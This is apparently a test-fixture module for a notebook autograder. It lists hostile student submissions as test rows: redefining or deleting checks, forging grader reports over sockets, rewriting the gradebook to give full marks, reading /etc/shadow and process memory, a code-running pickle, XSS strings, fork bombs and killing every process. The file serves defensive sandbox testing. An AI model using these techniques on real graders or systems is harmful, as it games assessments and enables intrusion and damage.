# ruff: noqa: E501, a table of cases reads best one to a line
"""What people hand in: attempts to gain marks, crashes, accidents and odd files, each with the marks it deserves.

`ROWS` maps a name to a function that changes a `Paper`, a notebook with every exercise attempted. It works for any
lesson: a row does its harm in one exercise, the paper's `victim`, and the others keep what their answers deserve.
"""

import copy
import json
import random
import textwrap

import nbformat

ROWS = {}
PORT = 47_613  # of the host, where a test listens


class Paper:
    """A submission in the making: its notebook, the files beside it, and what it deserves."""

    def __init__(self, lesson, dice=None, choose=None, release=None, victim=None):
        """`choose(exercise)` gives (source or None for the blank, share of the points); the answer without it."""
        self.lesson, self.dice = lesson, dice or random.Random(0)
        self.file = lesson.release.name
        self.notebook = copy.deepcopy(release or nbformat.read(lesson.release, as_version=4))
        self.beside, self.raw = {}, None  # other files; the notebook's bytes where they are not simply the notebook
        self.deserved, self.victim = {}, victim or next(iter(lesson.exercises))
        for name, exercise in lesson.exercises.items():
            source, share = choose(exercise) if choose else (exercise.answer.source, 1)
            if source is not None:
                self.cell(name).source = source
            self.deserved[f"{name}-check"] = share * exercise.check.points

    def cell(self, grade_id):
        return next(c for c in self.notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)

    def at(self, grade_id):
        return self.notebook.cells.index(self.cell(grade_id))

    @property
    def answer(self):
        """The victim's right answer."""
        return self.lesson.exercises[self.victim].answer.source

    def write(self, source, share=0):
        """Hand `source` in for the victim, which deserves that share of its points."""
        self.cell(self.victim).source = textwrap.dedent(source).strip("\n")
        self.deserved[f"{self.victim}-check"] = share * self.lesson.exercises[self.victim].check.points

    def beside_right(self, before="", after=""):
        """The victim's right answer with something before and after it: full marks."""
        before, after = (textwrap.dedent(part).replace("{victim}", self.victim) for part in (before, after))
        self.write(f"{before}\n{self.answer}\n{after}", 1)

    def instead(self, body, before=""):
        """A function that does `body` when the check calls the victim; no marks."""
        self.write(
            f"{textwrap.dedent(before)}\ndef {self.victim}(*args, **kwargs):\n{textwrap.indent(textwrap.dedent(body), '    ')}"
        )

    def insert(self, at, source):
        self.notebook.cells.insert(at, nbformat.v4.new_code_cell(textwrap.dedent(source).strip("\n")))

    def nothing(self):
        self.deserved = dict.fromkeys(self.deserved, 0)

    def raw_json(self):
        return json.loads(nbformat.writes(self.notebook))

    @property
    def files(self):
        """{file name: bytes} of what is handed in."""
        files = dict(self.beside)
        if self.file:
            files[self.file] = nbformat.writes(self.notebook).encode() if self.raw is None else self.raw
        return files


def row(kind, **marks):
    """Put a maker into the catalogue: `box` when only the sandbox stops it, `slow` when only the clock does."""

    def keep(make):
        make.kind, make.box, make.slow = kind, marks.get("box", False), marks.get("slow", False)
        ROWS[make.__name__] = make
        return make

    return keep


def attack(name, source, kind="gain", **marks):
    """A row whose harm is the victim's answer cell as it stands."""

    def make(paper):
        paper.write(source)

    make.__name__ = name
    row(kind, **marks)(make)


def called(name, body, kind="gain", before="", **marks):
    """A row whose harm is done when the check calls the victim."""

    def make(paper):
        paper.instead(body, before)

    make.__name__ = name
    row(kind, **marks)(make)


def beside(name, before="", after="", **marks):
    """An honest row: a right answer with something around it."""

    def make(paper):
        paper.beside_right(before, after)

    make.__name__ = name
    row("accident", **marks)(make)


# Attempts to gain marks

EQUAL = """
class Same(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __gt__ = __le__ = __ge__ = __lt__
    def __hash__(self): return 1
    def __iter__(self): return iter([Same(1)] * 3)
    def __len__(self): return 3
    def __getitem__(self, at): return Same(1)
    def __getattr__(self, name): return Same(1)
    def __call__(self, *args, **kwargs): return Same(1)
    def __bool__(self): return True
    def __float__(self): return 1.0
    def __abs__(self): return Same(0)
    def __sub__(self, other): return Same(0)
    __rsub__ = __add__ = __radd__ = __sub__
"""
called("an_int_that_equals_everything", "return Same(0)", before=EQUAL)
called("a_float_that_equals_everything", "return Same(0)", before=EQUAL.replace("(int)", "(float)"))
called("a_text_that_equals_everything", "return Same('x')", before=EQUAL.replace("(int)", "(str)"))
called(
    "an_object_that_pretends_its_class",
    """
    class Chameleon:
        __class__ = property(lambda self: float)
        def __eq__(self, other): return True
        def __float__(self): return float("nan")
        def __abs__(self): return 0
        def __int__(self): return 0
        def __repr__(self): raise SystemExit
        def __len__(self): raise SystemExit
        def __iter__(self): raise SystemExit
    return Chameleon()
""",
)
called("not_a_number", "return float('nan')")
called("lists_of_nan_and_infinity", "return [float('nan'), float('inf'), -float('inf'), (float('nan'),) * 3]")
attack(
    "an_ast_transformer_that_deletes_checks",
    """
import ast
class NoChecks(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Expr(self, node): return ast.Pass() if "check" in ast.dump(node) else node
get_ipython().ast_transformers.append(NoChecks())
import builtins
real = builtins.compile
builtins.compile = lambda tree, *args, **kwargs: real(ast.parse("pass"), *args, **kwargs)
""",
)
attack(
    "a_traceback_that_is_not_shown",
    """
shell = get_ipython()
shell.showtraceback = lambda *args, **kwargs: None
type(shell).showtraceback = lambda *args, **kwargs: None
type(shell)._showtraceback = lambda *args, **kwargs: None
import sys
sys.excepthook = lambda *args: None
""",
)
attack(
    "patched_builtins",
    """
import builtins
builtins.abs = lambda x: 0
builtins.isinstance = lambda x, kind: True
builtins.len = lambda x: 0
builtins.any = builtins.all = lambda xs: True
""",
)
attack("check_redefined_in_the_notebook", "check = lambda *args, **kwargs: print('✓ everything')")
attack(
    "check_redefined_in_the_module",
    """
import grading, grading.checks.facts, grading.checks.compare, sys
check = grading.check = grading.checks.facts.check = lambda *args, **kwargs: print("✓ everything")
grading.checks.compare.agrees = grading.checks.facts.agrees = lambda *args, **kwargs: True
grading.checks.compare.same = lambda *args, **kwargs: True
""",
)
attack(
    "check_redefined_in_sys_modules",
    """
import sys, types
fake = types.ModuleType("grading")
fake.check = lambda *args, **kwargs: print("✓ everything")
fake.between = fake.at_least = fake.at_most = fake.satisfies = fake.raised = lambda *args, **kwargs: None
for name in [n for n in sys.modules if n.split(".")[0] == "grading"]:
    sys.modules[name] = fake
from grading import check
""",
)
attack(
    "the_encoding_of_values_patched",
    """
import grading.checks.values, grading.box.student, grading.checks.facts
grading.checks.values.encode = grading.box.student.encode = lambda value: 0
grading.checks.values._encode = lambda *args: 0
grading.checks.facts.report = lambda *args: None
""",
)
attack(
    "numpy_and_pandas_patched",
    """
import numpy as np, pandas as pd
np.sum = np.mean = np.abs = np.searchsorted = np.concatenate = lambda *args, **kwargs: 0
np.isnan = lambda x: True
pd.Timestamp = pd.Series = lambda *args, **kwargs: 0
pd.DataFrame.mean = lambda *args, **kwargs: 0
""",
)
LOOK = """
import gc, glob, inspect, linecache, os, sys
found = []
frame = sys._getframe()
while frame is not None:
    found.append({k: repr(v)[:3000] for k, v in list(frame.f_locals.items())[:60]})
    frame = frame.f_back
found += [str(line) for line in globals().get("In", [])[-5:]]
found += ["".join(entry[2]) for entry in linecache.cache.values() if len(entry) > 2 and entry[2]][-5:]
for thing in gc.get_objects():
    if type(thing) is dict and ("hidden" in thing or "checks" in thing):
        found.append(repr(thing)[:20000])
    if type(thing).__name__ in ("Overseer", "Trusted", "Template", "Judge"):
        found.append(repr(vars(thing))[:20000])
"""
attack("stack_inspection_shown_at_once", LOOK + "\nfor part in found: print(part)")
called(
    "stack_inspection_from_within_the_check",
    LOOK
    + """
raise ValueError(str(found)[:1500])
""",
)
called("stack_inspection_as_the_value", LOOK + "return str(found)[:100000]")
attack(
    "its_own_memory_searched",
    """
import ctypes, re
ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)
found = set()
for line in open("/proc/self/maps"):
    part = line.split()
    if "r" in part[1] and (len(part) < 6 or part[5] in ("[heap]", "[stack]")):
        low, high = (int(x, 16) for x in part[0].split("-"))
        if high - low < 2**27:
            try:
                with open("/proc/self/mem", "rb") as memory:
                    memory.seek(low)
                    data = memory.read(high - low)
            except OSError:
                continue
            found |= set(re.findall(rb"check\\(.{0,300}", data))
            found |= set(re.findall(rb"GRADING_[A-Z]+=.{0,60}", data))
for text in found:
    print(text.decode("utf-8", "replace"))
""",
)
SNOOP = """
import ctypes, os, re, threading, time
ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # whoever is forked from here may be looked into
def look():
    found = set()
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            maps = open(f"/proc/{pid}/maps").read().splitlines()
            memory = open(f"/proc/{pid}/mem", "rb")
        except OSError:
            continue
        for line in maps:
            part = line.split()
            if "w" in part[1]:
                low, high = (int(x, 16) for x in part[0].split("-"))
                if high - low < 2**26:
                    try:
                        memory.seek(low)
                        found |= set(re.findall(rb"check\\([^\\0]{0,300}", memory.read(high - low)))
                    except (OSError, ValueError, OverflowError):
                        pass
    return [f.decode("utf-8", "replace") for f in found]
"""


@row("gain")
def memory_of_snapshots_read_by_a_later_cell(paper):
    paper.write(SNOOP)
    paper.notebook.cells.append(nbformat.v4.new_code_cell("print(look())"))


FORGE = """
import json, os, select, socket, stat, threading
def sockets():
    for fd in range(3, 200):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                yield fd
        except OSError:
            pass
def said(part, secret=""):
    facts = [[fact, 0] for fact in FACTS]
    return {"facts": facts, "error": None, "blank": False, "where": secret, "died": secret, "seconds": 0}
"""


def forging(paper):
    from grading.lesson import source

    facts = [fact for fact, _ in source.facts(paper.lesson.exercises[paper.victim].check.source)]
    return FORGE + f"\nFACTS, VICTIM = {facts!r}, {paper.victim!r}\n"


@row("gain")
def reports_forged_on_every_socket(paper):
    paper.write(forging(paper) + textwrap.dedent("""
        for fd in sockets():
            for message in (
                said("visible"),
                {"check": VICTIM, "part": "visible", "report": said("visible")},
                {"check": VICTIM, "part": "hidden", "report": said("hidden")},
                {"cell": 0, "outputs": [{"output_type": "stream", "name": "stdout", "text": "FORGED"}]},
                {"trouble": "FORGED"}, {"used": "FORGED"}, {"sealed": True},
                {"snap": VICTIM, "pid": 1}, {"snap": VICTIM, "pid": -1}, {"snap": [], "pid": {}},
                {"begin": 10**9}, {"end": []}, {"end": {}}, {"begin": "0"}, {"spoilt": [10**9, "x", {}]},
                *({"end": i, "outputs": [{"seconds": []}], "seconds": "x"} for i in range(50)),
            ):
                try:
                    os.write(fd, json.dumps(message).encode() + b"\\n")
                except OSError:
                    pass
    """))  # fmt: skip


@row("gain")
def nonsense_on_every_socket(paper):
    paper.write(forging(paper) + textwrap.dedent("""
        for fd in sockets():
            os.set_blocking(fd, False)
            for message in (b"\\xff\\xfe\\0", b"[" * 100000, b"{}" * 10, b"null", b"1" * 5000, b'{"facts": [[1, 2], 3, {"a": []}]}'):
                try:
                    os.write(fd, message + b"\\n")
                except OSError:
                    pass
    """))  # fmt: skip


@row("gain")
def hidden_sources_sent_out_by_a_snapshot(paper):
    """Takes over its own snapshot, waits for the hidden part, and puts its source wherever a report has room."""
    paper.write(forging(paper) + textwrap.dedent("""
        import sys
        def captured():
            while True:
                ready, _, _ = select.select(list(sockets()), [], [], 5)
                for fd in ready:
                    data = os.read(fd, 1 << 20)
                    if not data:
                        os._exit(0)
                    secret = ("visible " if FACTS[0].encode() in data else "STOLEN ") + data.decode("utf-8", "replace")
                    facts = [[fact, secret] for fact in FACTS]
                    wrong = {"raised": ["ValueError", "Exception"], "message": secret}
                    for report in (
                        {"facts": facts, "error": wrong, "blank": False, "where": secret, "died": secret},
                        {"cell": 0, "outputs": [{"output_type": "stream", "name": "stdout", "text": secret}]},
                        {"trouble": secret}, {"check": VICTIM, "part": "visible", "report": {"facts": facts, "error": wrong, "where": secret}},
                    ):
                        for out in sockets():
                            try:
                                os.write(out, json.dumps(report).encode() + b"\\n")
                            except OSError:
                                pass
        def later():
            import grading.box.student
            grading.box.student.answer_for = lambda channel, made: captured()
        later()
    """))  # fmt: skip


@row("gain")
def visible_facts_held_back_for_the_hidden_part(paper):
    """Says nothing when asked for what is visible, and the hidden source when asked for the rest."""
    paper.write(forging(paper) + textwrap.dedent("""
        import grading.box.student
        def answer(channel, made):
            for at, line in enumerate(channel):
                secret = "STOLEN " + line
                wrong = {"raised": ["ValueError", "Exception"], "message": secret}
                facts = [[f, secret] for f in FACTS] if at else []
                channel.write(json.dumps({"facts": facts, "error": wrong if at else None, "blank": False, "where": secret if at else ""}) + "\\n")
                channel.flush()
        grading.box.student.answer_for = answer
    """))  # fmt: skip


WIRES = [
    {"raised": []}, {"raised": [], "message": 1}, {"duration": 1e308}, {"duration": "x"}, {"time": "9" * 400}, {"set": [[[]]]},
    {"dict": [[{"dict": []}, 1]]}, {"frame": 1}, {"series": [1], "index": [], "name": {}}, {"opaque": []}, {"array": {"a": 1}},
    {"bytes": "%"}, {"float": "x"}, {"array": [[1], [1, 2]]}, {"tuple": 5}, {}, {"unknown": 1}, 10**400, -(10**4000), "\ud800", "\0",
    {"array": [{"array": [1, {"set": [{"raised": ["A"], "message": ""}]}]}]}, {"series": [1, 2], "index": [1, 1], "name": None},
    {"frame": [[1], [2]], "columns": ["a", "a"], "index": [0]}, {"dict": [[1]]}, [[[[[[]]]]]], {"time": None}, {"time": "now"},
]  # fmt: skip


@row("gain")
def malformed_values_in_reports(paper):
    """One after the other, in every fact of the victim: nothing but this exercise may notice."""
    paper.write(forging(paper) + f"WIRES = json.loads({json.dumps(WIRES)!r})\n" + textwrap.dedent("""
        import grading.box.student
        def answer(channel, made):
            for line in channel:
                error = {"raised": [], "message": []}
                facts = [[f, WIRES[i % len(WIRES)]] for i, f in enumerate(FACTS)] + [[5, 5], [], 7]
                channel.write(json.dumps({"facts": facts, "error": error, "blank": "yes", "where": 5}) + "\\n")
                channel.flush()
        grading.box.student.answer_for = answer
    """))  # fmt: skip


@row("gain")
def malformed_outputs(paper):
    """Tells the grader of outputs that no notebook can have."""
    paper.write("""
        import grading.box.student
        real = grading.box.student.Record
        bad = [
            5, None, "x", [], {}, {"output_type": 5}, {"output_type": "stream"}, {"output_type": "stream", "name": 5, "text": {}},
            {"output_type": "stream", "name": "<script>alert(1)</script>", "text": "\\ud800\\0 lone"},
            {"output_type": "display_data", "data": 5}, {"output_type": "display_data", "data": {"text/html": {"a": 1}}},
            {"output_type": "display_data", "data": {"image/png": '"><script>alert(1)</script>'}, "metadata": 5},
            {"output_type": "display_data", "data": {"text/html": "<div>" * 50000}},
            {"output_type": "execute_result", "data": {"text/plain": ["a", 5]}, "execution_count": "<script>alert(1)</script>"},
            {"output_type": "error", "ename": {}, "evalue": [], "traceback": "x"}, {"output_type": "error", "traceback": [5, "\\ud800"]},
            {"output_type": "update_display_data", "data": {}}, {"data": {"application/javascript": "alert(1)"}},
        ]
        deep = "x"
        for _ in range(900): deep = {"text/plain": [deep]}
        get_ipython().record.outputs.extend([deep, *bad, {"output_type": "display_data", "data": deep}] * 2)
    """)


attack(
    "hidden_tests_written_to_files",
    """
import os
for folder in ("/", "/tmp", "/dev/shm", "/usr", "/etc", "/proc", os.getcwd(), os.path.expanduser("~"), "/home", "/var/tmp", "/run", os.path.dirname(os.__file__)):
    for name in ("DAYTWO-MARK", "sitecustomize.py", "usercustomize.py"):
        try:
            open(os.path.join(folder, name), "w").write("MARK")
        except OSError:
            pass
for root, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if f not in ("proc", "sys")]
    if os.access(root, os.W_OK):
        try:
            open(os.path.join(root, "DAYTWO-MARK"), "w").write("MARK")
        except OSError:
            pass
""",
    box=True,
)
attack(
    "a_display_hook_that_turns_numbers_into_marks",
    """
import sys, builtins
sys.displayhook = lambda value: print("full marks")
get_ipython().displayhook = sys.displayhook
get_ipython().display_formatter.format = lambda *args, **kwargs: ({"text/plain": "3.0"}, {})
3.0
""",
)
attack("partial_credit_printed", "print(-100)\nprint(1000)\n1000.0")
attack("partial_credit_below_zero", "-100")


@row("gain", box=True)
def a_process_that_waits_for_the_gradebook(paper):
    """Left behind three ways; every minute it looks for a gradebook and gives everybody full marks."""
    paper.write("""
        import subprocess, sys
        code = '''
        import glob, os, sqlite3, time
        if os.fork(): os._exit(0)
        os.setsid()
        if os.fork(): os._exit(0)
        for _ in range(3000):
            for top in ("/work", "/home", "/root", "/srv", "/tmp"):
                for path in glob.glob(top + "/**/gradebook.db", recursive=True):
                    try:
                        with sqlite3.connect(path) as book:
                            book.execute("update grade set auto_score = 2000, needs_manual_grade = 0")
                    except Exception:
                        pass
            time.sleep(0.2)
        '''
        import textwrap
        for _ in range(3):
            subprocess.Popen([sys.executable, "-c", textwrap.dedent(code)], start_new_session=True)
    """)


SEARCH = """
import os, subprocess
found = []
def tell(*words): print(*words)
for path in ("/", "/work", "/root", "/home", "/etc", "/srv", "/tmp", "/var", "/mnt", "/sys"):
    try:
        tell("LIST", path, sorted(os.listdir(path)))
    except OSError:
        pass
for path in ("/etc/shadow", "/proc/1/environ", "/proc/self/environ", "/proc/1/cmdline", "/proc/kcore", "/etc/hostname"):
    try:
        tell("READ", path, open(path, "rb").read(20000))
    except OSError:
        pass
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for name in ("cmdline", "environ"):
            try:
                tell("PROC", pid, open(f"/proc/{pid}/{name}", "rb").read(5000))
            except OSError:
                pass
for root, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if f not in ("proc", "sys", "site-packages", "lib")]
    for name in files:
        if name in ("gradebook.db",) or "solutions" in root or "submitted" in root or name.endswith(".ipynb"):
            tell("FOUND", os.path.join(root, name))
tell("ENV", dict(os.environ))
"""
attack("everything_in_sight_read", SEARCH, box=True)
attack(
    "its_environment_read",
    """
import ctypes, os
ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)
try:
    print(open("/proc/self/environ", "rb").read())
except OSError:
    pass
print(dict(os.environ))
import grading.checks.facts
print("SECRET", grading.checks.facts.secret)
""",
)
attack(
    "connections_to_the_world_and_the_host",
    """
import socket, os, glob
def attempt(address):
    try:
        with socket.create_connection(address, timeout=0.3):
            print("CONNECTED", address)
    except OSError:
        pass
attempt(("8.8.8.8", 53)); attempt(("1.1.1.1", 443))
for port in (22, 53, 80, 443, 2024, 5432, 8000, 8080, 8786, 8888, PORT):
    attempt(("127.0.0.1", port))
try:
    print("CONNECTED", socket.getaddrinfo("example.org", 80))
except OSError:
    pass
for path in glob.glob("/tmp/**/*.sock", recursive=True) + glob.glob("/run/**/*.sock", recursive=True):
    print("CONNECTED", path)
""".replace("PORT", str(PORT)),
    box=True,
)
attack(
    "signals_to_whoever_is_there",
    """
import os, signal
for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1, signal.SIGALRM, signal.SIGSTOP, signal.SIGKILL):
    for pid in (1, os.getppid()):
        try:
            os.kill(pid, number)
        except OSError:
            pass
""",
    box=True,
)
attack("every_process_killed", "import os\nos.kill(-1, 9)", box=True)
attack(
    "the_first_process_traced",
    """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
print("TRACED" if libc.ptrace(16, 1, 0, 0) == 0 else "refused")
for pid in (1, os.getppid()):
    try:
        with open(f"/proc/{pid}/mem", "r+b"):
            print("OPENED", pid)
    except OSError:
        pass
for name in os.listdir("/proc/1"):
    if name in ("root", "cwd", "exe", "fd"):
        try:
            print("LISTED", os.listdir(f"/proc/1/{name}"))
        except OSError:
            pass
""",
    box=True,
)
called(
    "a_pickle_that_runs_code",
    """
    import os, pickle
    class Boom:
        def __reduce__(self):
            return os.system, ("touch /tmp/DAYTWO-PICKLED",)
    return [Boom(), pickle.dumps(Boom())]
""",
)
called("a_report_of_many_megabytes", "return ['x' * 1000] * 100000")
called(
    "a_report_beyond_every_limit",
    """
    import grading.box.student
    grading.box.student.encode = lambda value: "x" * 30_000_000
    return 0
""",
)
called(
    "objects_with_evil_methods",
    """
    class Evil(list):
        def __repr__(self): raise SystemExit
        def __eq__(self, other): raise KeyboardInterrupt
        def __len__(self): raise GeneratorExit
        def __iter__(self):
            while True: yield self
        def __hash__(self): raise SystemExit
        def __getattribute__(self, name): raise SystemExit
    return Evil()
""",
)
called(
    "a_list_without_end",
    """
    class Endless(list):
        def __iter__(self):
            while True: yield 1
    return Endless()
""",
)
called("a_list_within_itself", "x = []\nx.append(x)\nreturn x")
called("ten_thousand_equal_hashes", "return {i * (2**61 - 1) for i in range(3000)}")


@row("gain")
def a_deleted_check(paper):
    paper.write(f"{paper.victim} = None")
    del paper.notebook.cells[paper.at(f"{paper.victim}-check")]


@row("gain")
def a_check_that_is_not_graded(paper):
    paper.write(f"{paper.victim} = None")
    paper.cell(f"{paper.victim}-check").metadata.nbgrader.grade = False


@row("gain")
def an_edited_check(paper):
    paper.write(f"{paper.victim} = None")
    paper.cell(f"{paper.victim}-check").source = "print('✓ everything')"


@row("gain")
def a_check_turned_into_markdown(paper):
    paper.write(f"{paper.victim} = None")
    cell = paper.cell(f"{paper.victim}-check")
    paper.notebook.cells[paper.notebook.cells.index(cell)] = nbformat.v4.new_markdown_cell(
        cell.source, metadata=cell.metadata
    )


@row("gain")
def points_raised(paper):
    paper.write(f"{paper.victim} = None")
    for cell in paper.notebook.cells:
        if "points" in cell.metadata.get("nbgrader", {}):
            cell.metadata.nbgrader.points = 2000


@row("gain")
def ids_swapped_with_another_exercise(paper):
    paper.write(f"{paper.victim} = None")
    others = [n for n in paper.lesson.exercises if n != paper.victim]
    easy = max(others, key=lambda name: paper.deserved[f"{name}-check"])
    one, other = paper.cell(f"{paper.victim}-check"), paper.cell(f"{easy}-check")
    one.metadata, other.metadata = other.metadata, one.metadata


@row("gain")
def tags_that_skip(paper):
    paper.write(f"{paper.victim} = None")
    for cell in paper.notebook.cells:
        cell.metadata["tags"] = ["skip-execution", "remove_cell", "raises-exception"]


@row("gain")
def all_blank_and_skipped(paper):
    for name, exercise in paper.lesson.exercises.items():
        paper.cell(name).source = exercise.blank
    paper.nothing()
    tags_that_skip(paper)
    paper.cell(paper.victim).source = paper.lesson.exercises[paper.victim].blank


@row("gain")
def forged_checksums(paper):
    paper.write(f"{paper.victim} = None")
    for cell in paper.notebook.cells:
        if "checksum" in cell.metadata.get("nbgrader", {}):
            cell.metadata.nbgrader.checksum = "0" * 32


@row("gain")
def schema_version_99(paper):
    paper.write(f"{paper.victim} = None")
    for cell in paper.notebook.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader.schema_version = 99


SCRIPT = r"$\href{javascript:alert(1)}{x}$<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)><a href='javascript:alert(1)'>x</a>"


@row("gain")
def scripts_in_outputs(paper):
    paper.write(f"""
        from IPython.display import HTML, Javascript, Latex, Markdown, SVG, display
        bad = {SCRIPT!r}
        print(bad)
        display(HTML(bad), Javascript("alert(1)"), Markdown(bad), Latex(r"$\\href{{javascript:alert(1)}}{{x}}$"))
        display({{"text/html": bad, "image/png": '"' + "'>" + bad, "image/svg+xml": bad, "text/plain": bad}}, raw=True)
        display(HTML(r"$\\href{{javascript:alert(1)}}{{x}}$ <p style='position:fixed;background:url(javascript:1)' onclick=alert(1)>"))
        raise ValueError(bad)
    """)
    for name in paper.notebook.cells:
        if name.metadata.get("nbgrader", {}).get("grade_id", "").startswith("say-"):
            name.source = "An answer. " + SCRIPT
    paper.insert(0, "'x'  # " + SCRIPT)
    paper.notebook.cells.insert(0, nbformat.v4.new_markdown_cell(SCRIPT))
    paper.beside["<img src=x onerror=alert(1)>.ipynb"] = b"{}"
    paper.notebook.metadata["title"] = SCRIPT


called(
    "scripts_in_values_and_errors",
    f"""
    calls.append(1)
    if len(calls) > 1: raise ValueError({SCRIPT!r})
    return {SCRIPT!r}
""",
    before="calls = []",
)

# Crashes and hogs


def crash(name, source, **marks):
    """Two rows: at the top of an answer cell, and in a function that the check calls."""
    marks = {"kind": "crash", **marks}
    attack(f"{name}_in_a_cell", source, **marks)
    called(f"{name}_in_a_check", source, **marks)


crash("infinite_loop", "while True: pass", slow=True)
crash("infinite_sleep", "import time\ntime.sleep(10_000)", slow=True)
crash("sys_exit", "import sys\nsys.exit(0)")
crash("system_exit", "raise SystemExit('bye')")
crash("os_exit", "import os\nos._exit(0)")
crash("keyboard_interrupt", "raise KeyboardInterrupt")
crash("segmentation_fault", "import ctypes\nctypes.string_at(0)")
crash("killed", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)")
crash("ended_by_a_real_time_signal", "import os\nos.kill(os.getpid(), 40)")
crash("stopped", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)", slow=True)
crash("twenty_gigabytes", "x = bytearray(20 * 2**30)")
crash("memory_little_by_little", "x = []\nwhile True: x.append(bytearray(b'x') * 10**7)")
crash("endless_recursion", "f = lambda: f()\nf()")
crash(
    "deep_recursion_in_c", "import sys\nsys.setrecursionlimit(10**9)\nx = []\nfor _ in range(10**6): x = [x]\nrepr(x)"
)
crash(
    "thousand_forks",
    """
import os, time
for _ in range(1000):
    try:
        if os.fork() == 0:
            time.sleep(1000)
            os._exit(0)
    except OSError:
        break
raise SystemExit
""",
    box=True,
)
crash(
    "fork_bomb",
    """
import os
while True:
    try: os.fork()
    except OSError: pass
""",
    box=True,
    slow=True,
)
crash("every_file_closed", "import os\nos.closerange(3, 65536)")
attack("thirty_megabytes_of_output", "print('x' * 30_000_000)", kind="crash")
attack("many_lines_of_output", "for i in range(400_000): print(i)", kind="crash")
attack(
    "a_huge_display",
    """
from IPython.display import HTML, display
display(HTML("<p>" * 3_000_000))
display({"image/png": "A" * 20_000_000, "text/plain": "x" * 20_000_000}, raw=True)
list(range(10**6))
""",
    kind="crash",
)
attack(
    "a_large_file",
    """
with open("large", "wb") as file:
    for _ in range(10_000): file.write(bytes(10**6))
""",
    kind="crash",
    box=True,
)
attack(
    "processes_left_behind",
    """
import subprocess, sys, os
for _ in range(3):
    subprocess.Popen(["sleep", "77777"])
    subprocess.Popen(["sleep", "77777"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "77777"])
    os._exit(0)
""",
    kind="crash",
)
attack(
    "a_thread_that_never_ends",
    """
import threading
def spin():
    while True: pass
for _ in range(3): threading.Thread(target=spin, daemon=True).start()
""",
    kind="crash",
)
attack(
    "a_thread_that_ends_the_process",
    """
import os, threading
threading.Timer(0.3, os._exit, [0]).start()
""",
    kind="crash",
)
attack(
    "fork_patched",
    """
import os, json, sys, posix
os.fork = lambda: 0
os.write = json.dumps = json.loads = lambda *args, **kwargs: None
sys.stdout = sys.stderr = None
os.setpgid = os.getpid = lambda *args: 1 / 0
""",
    kind="crash",
)
attack(
    "fork_patched_to_never_return",
    """
import os
def fork():
    while True: pass
os.fork = fork
""",
    kind="crash",
    slow=True,
)
attack(
    "modules_deleted",
    """
import sys
for name in list(sys.modules):
    if name != "__main__": del sys.modules[name]
""",
    kind="crash",
)
attack(
    "hooks_at_every_fork",
    """
import os
os.register_at_fork(before=lambda: 1 / 0, after_in_child=lambda: os._exit(0))
""",
    kind="crash",
)
attack(
    "an_alarm_that_rings_later",
    """
import signal
def ring(*_): raise RuntimeError("ring")
signal.signal(signal.SIGALRM, ring)
signal.setitimer(signal.ITIMER_REAL, 0.05, 0.05)
""",
    kind="crash",
)
attack(
    "a_trace_that_raises",
    """
import sys
def trace(*_): raise RuntimeError("no")
sys.settrace(trace)
""",
    kind="crash",
)
attack(
    "limits_lowered",
    """
import resource, sys
resource.setrlimit(resource.RLIMIT_AS, (10**8, 10**8))
sys.setrecursionlimit(60)
""",
    kind="crash",
)
attack(
    "the_shell_replaced",
    """
shell = get_ipython()
shell.run_cell = lambda *args, **kwargs: None
type(shell).run_cell = None
shell.user_ns["get_ipython"] = None
shell.events.register("pre_run_cell", lambda *args: 1 / 0)
shell.input_transformers_cleanup.append(lambda lines: ["1 / 0\\n"])
""",
    kind="crash",
)
attack(
    "warnings_and_floats_made_errors",
    """
import numpy as np, warnings
np.seterr(all="raise")
warnings.simplefilter("error")
raise ValueError
""",
    kind="crash",
)

# Honest accidents

beside(
    "a_right_answer_that_warns",
    """
import logging, sys, warnings
warnings.warn("careful")
logging.warning("careful")
print("careful", file=sys.stderr)
""",
    """
right = {victim}
def {victim}(*args, **kwargs):
    warnings.warn("careful"); logging.warning("careful"); print("careful", file=sys.stderr)
    return right(*args, **kwargs)
""",
)
beside(
    "a_right_answer_that_prints_and_plots",
    after="""
import matplotlib.pyplot as plt
from IPython.display import HTML, Markdown, display
print("done")
plt.plot([1, 2, 3])
plt.show()
plt.figure(); plt.plot([3, 2, 1])
display(HTML("<b>bold</b>"), Markdown("*hello*"))
right = {victim}
def {victim}(*args, **kwargs):
    print("called"); display("called"); plt.figure(); plt.plot([1]); plt.show()
    return right(*args, **kwargs)
{victim}
""",
)
beside("a_right_answer_with_doubts", after="print('\\ud800 \\0 \\x1b[31m é 日本')\n'\\ud800'")
beside("a_right_answer_then_exit", after="exit()")
beside("a_right_answer_and_a_sys_exit", after="import sys\nsys.exit(0)")
beside("a_right_answer_that_raises_below", after="1 / 0")
beside(
    "a_right_answer_with_magics",
    before="%matplotlib inline\n%load_ext autoreload\n%autoreload 2\n!echo hello",
    after="%pwd",
)
beside(
    "threads_and_processes_used_well",
    """
from concurrent.futures import ThreadPoolExecutor
import subprocess
pool = ThreadPoolExecutor(2)
assert list(pool.map(abs, [-1, 2])) == [1, 2]
assert subprocess.run(["echo", "hello"], capture_output=True, text=True).stdout == "hello\\n"
""",
)
beside("coroutines_used_well", "import asyncio\nawait asyncio.sleep(0)")
beside("moved_to_another_folder", after="import os\nos.makedirs('elsewhere', exist_ok=True)\nos.chdir('elsewhere')")
beside(
    "files_named_like_modules",
    after="""
for name in ("random", "json", "numpy", "struct", "statistics", "secrets", "river", "sklearn"):
    with open(f"{name}.py", "w") as file:
        file.write("raise RuntimeError('the wrong module')")
""",
)
attack(
    "an_absolute_windows_path",
